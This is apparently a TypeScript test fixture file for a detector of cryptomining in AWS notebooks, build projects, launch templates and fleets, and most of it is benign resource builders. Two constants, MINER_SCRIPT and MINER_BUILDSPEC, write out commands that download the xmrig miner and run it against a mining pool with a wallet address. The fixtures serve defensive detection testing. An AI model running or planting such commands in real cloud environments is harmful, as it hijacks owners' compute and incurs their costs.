/**
 * Fixtures for the managed compute and relaunch rules, shaped like what the collectors store:
 * SageMaker notebooks and lifecycle configs, CodeBuild projects and builds, Amplify apps, Auto
 * Scaling groups, launch templates, spot requests and fleets. Scripts go through the collector's
 * storedText (redacted, hashed), as in a real snapshot.
 */
import type { z } from "zod";
import { storedText } from "../../lambda/collect/managed-compute.js";
import type {
  AmplifyAppSchema,
  CodeBuildBuildSchema,
  CodeBuildProjectSchema,
  NotebookInstanceSchema,
  NotebookLifecycleConfigSchema,
} from "../../lambda/core/sections/managed-compute.js";
import type {
  AutoScalingGroupSchema,
  FleetSchema,
  LaunchTemplateSchema,
  SpotRequestSchema,
} from "../../lambda/core/sections/relaunch.js";
import { ACCOUNT_ID, daysAgo, hoursAgo } from "../support/snapshot-builder.js";

export const MINER_SCRIPT = [
  "#!/bin/bash",
  "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz",
  "./xmrig-6.21.0/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1",
].join("\n");
/** A cleanup script: names a miner binary but mines nothing (weak on its own). */
export const WEAK_SCRIPT = "#!/bin/bash\npkill -f xmrig || true\n";
export const BENIGN_SCRIPT =
  "#!/bin/bash\nset -e\npip install --upgrade jupyterlab-git\nconda install -y -n python3 pandas\n";
export const MINER_BUILDSPEC = [
  "version: 0.2",
  "phases:",
  "  build:",
  "    commands:",
  "      - wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
  "      - ./xmrig --url pool.hashvault.pro:443 --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 --max-cpu-usage 100",
].join("\n");
export const BENIGN_BUILDSPEC = "version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n      - npm test\n";

export const b64 = (text: string) => Buffer.from(text).toString("base64");

export function notebook(overrides: Partial<z.input<typeof NotebookInstanceSchema>> = {}) {
  const name = overrides.name ?? "lab-notebook";
  const region = overrides.region ?? "us-east-1";
  return {
    name,
    arn: `arn:aws:sagemaker:${region}:${ACCOUNT_ID}:notebook-instance/${name}`,
    region,
    instanceType: "ml.t3.medium",
    status: "InService",
    creationTime: daysAgo(40),
    ...overrides,
  };
}

export function lifecycleConfig(
  name: string,
  scripts: { onCreate?: string; onStart?: string },
  overrides: Partial<z.input<typeof NotebookLifecycleConfigSchema>> = {},
) {
  return {
    name,
    region: "us-east-1",
    creationTime: hoursAgo(6),
    ...(scripts.onCreate !== undefined ? { onCreate: storedText(scripts.onCreate) } : {}),
    ...(scripts.onStart !== undefined ? { onStart: storedText(scripts.onStart) } : {}),
    ...overrides,
  };
}

export function project(overrides: Partial<z.input<typeof CodeBuildProjectSchema>> & { spec?: string } = {}) {
  const { spec, ...rest } = overrides;
  const name = rest.name ?? "web-build";
  const region = rest.region ?? "us-east-1";
  return {
    name,
    arn: `arn:aws:codebuild:${region}:${ACCOUNT_ID}:project/${name}`,
    region,
    computeType: "BUILD_GENERAL1_SMALL",
    image: "aws/codebuild/amazonlinux2-x86_64-standard:5.0",
    environmentType: "LINUX_CONTAINER",
    serviceRole: `arn:aws:iam::${ACCOUNT_ID}:role/codebuild-web`,
    created: daysAgo(120),
    ...(spec !== undefined ? { buildspec: storedText(spec) } : {}),
    ...rest,
  };
}

export function builds(
  projectName: string,
  count: number,
  overrides: Partial<z.input<typeof CodeBuildBuildSchema>> = {},
): z.input<typeof CodeBuildBuildSchema>[] {
  return Array.from({ length: count }, (_, k) => ({
    id: `${projectName}:0000${k}-aaaa-bbbb-cccc-dddddddddddd`,
    projectName,
    region: "us-east-1",
    startTime: hoursAgo(10 - k * 0.5),
    status: "IN_PROGRESS",
    ...overrides,
  }));
}

export function amplifyApp(overrides: Partial<z.input<typeof AmplifyAppSchema>> & { spec?: string } = {}) {
  const { spec, ...rest } = overrides;
  return {
    appId: "d1a2b3c4d5e6f7",
    name: "landing-page",
    region: "us-east-1",
    createTime: hoursAgo(5),
    repository: "https://github.com/example/landing-page",
    platform: "WEB",
    ...(spec !== undefined ? { buildSpec: storedText(spec) } : {}),
    ...rest,
  };
}

export function asg(overrides: Partial<z.input<typeof AutoScalingGroupSchema>> = {}) {
  return {
    name: "workers",
    region: "eu-west-1",
    createdTime: hoursAgo(8),
    minSize: 4,
    maxSize: 4,
    desiredCapacity: 4,
    launchTemplateId: "lt-0123456789abcdef0",
    instanceTypes: ["c5.9xlarge"],
    instanceIds: [],
    tags: {},
    ...overrides,
  };
}

export function launchTemplate(
  overrides: Partial<z.input<typeof LaunchTemplateSchema>> & { script?: string } = {},
): z.input<typeof LaunchTemplateSchema> {
  const { script, ...rest } = overrides;
  return {
    id: "lt-0123456789abcdef0",
    name: "workers",
    region: "eu-west-1",
    createTime: hoursAgo(8),
    latestVersion: 1,
    instanceType: "c5.9xlarge",
    ...(script !== undefined ? { userData: storedText(script) } : {}),
    ...rest,
  };
}

export function spotRequest(overrides: Partial<z.input<typeof SpotRequestSchema>> = {}) {
  return {
    id: "sir-0a1b2c3d",
    region: "eu-west-1",
    state: "active",
    type: "persistent",
    instanceType: "g4dn.12xlarge",
    createTime: hoursAgo(8),
    ...overrides,
  };
}

export function fleetOf(overrides: Partial<z.input<typeof FleetSchema>> = {}): z.input<typeof FleetSchema> {
  return {
    id: "fleet-0a1b2c3d-1111-2222-3333-444455556666",
    region: "eu-west-1",
    kind: "ec2-fleet",
    type: "maintain",
    state: "active",
    createTime: hoursAgo(8),
    targetCapacity: 4,
    instanceTypes: ["c5.9xlarge"],
    ...overrides,
  };
}

/** A cost series where `service` had no baseline spend, and 12 days of ordinary EC2. */
export function costsWithout(service: string, recent: number[] = [0, 0, 0]) {
  const days = Array.from({ length: 15 }, (_, k) => daysAgo(14 - k).slice(0, 10));
  return {
    currency: "USD",
    days,
    byRegion: { "eu-west-1": days.map(() => 40) },
    byService: {
      "Amazon Elastic Compute Cloud - Compute": days.map(() => 40),
      [service]: [...days.slice(3).map(() => 0), ...recent],
    },
    byInstanceType: {},
  };
}
